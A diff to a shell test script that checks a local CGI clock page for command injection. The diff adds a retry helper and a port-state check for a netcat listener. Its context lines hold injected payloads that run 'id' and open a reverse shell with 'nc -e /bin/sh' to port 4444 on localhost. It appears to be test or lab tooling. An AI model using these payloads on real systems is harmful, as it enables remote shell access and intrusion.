@@ -7,15 +7,21 @@
 site=http://127.0.0.1
 page="$site/cgi-bin/clock?server=127.0.0.1+13"
 
-site_is_up()
+# in_time COMMAND..: waits for it to succeed, but not for ever.
+in_time()
 {
-    # A restarted server needs a moment.
-    local tries=50
-    until wget -q -O /dev/null $site/ 2>/dev/null; do
+    local tries=300
+    until "$@" 2>/dev/null; do
         tries=$((tries - 1))
         [ $tries -gt 0 ] || return 1
         sleep 0.1
     done
+}
+
+site_is_up()
+{
+    # A restarted server needs a moment.
+    in_time wget -q -O /dev/null $site/
 }
 
 visit()
@@ -40,13 +46,20 @@ attack_shell()
     run "wget -q -O - '$page;/bin/sh+-c+id'"
 }
 
+# attackers_port STATE..: the attacker's port, 4444, is in one of these states, as the kernel numbers them.
+attackers_port()
+{
+    cat /proc/net/tcp /proc/net/tcp6 2>/dev/null | grep -qE "^ *[0-9]+: [0-9A-F]+:115C [0-9A-F:]+ ($1) "
+}
+
 attack_reverse()
 {
-    echo id | timeout 3 nc -l -p 4444 >/tmp/caught 2>&1 &
+    echo id | timeout 60 nc -l -p 4444 >/tmp/caught 2>&1 &
+    in_time attackers_port 0A
     run "wget -q -O - '$page;/usr/bin/nc+127.0.0.1+4444+-e+/bin/sh'"
-    # Without a connection the listener would wait on.
-    sleep 0.3
-    kill $! 2>/dev/null
+    # With a connection (established, or closed by one side) the listener ends by itself; without one it would wait on.
+    attackers_port '01|04|05|08|09' || kill $! 2>/dev/null
+    wait $!
     run 'cat /tmp/caught'
     rm -f /tmp/caught
 }
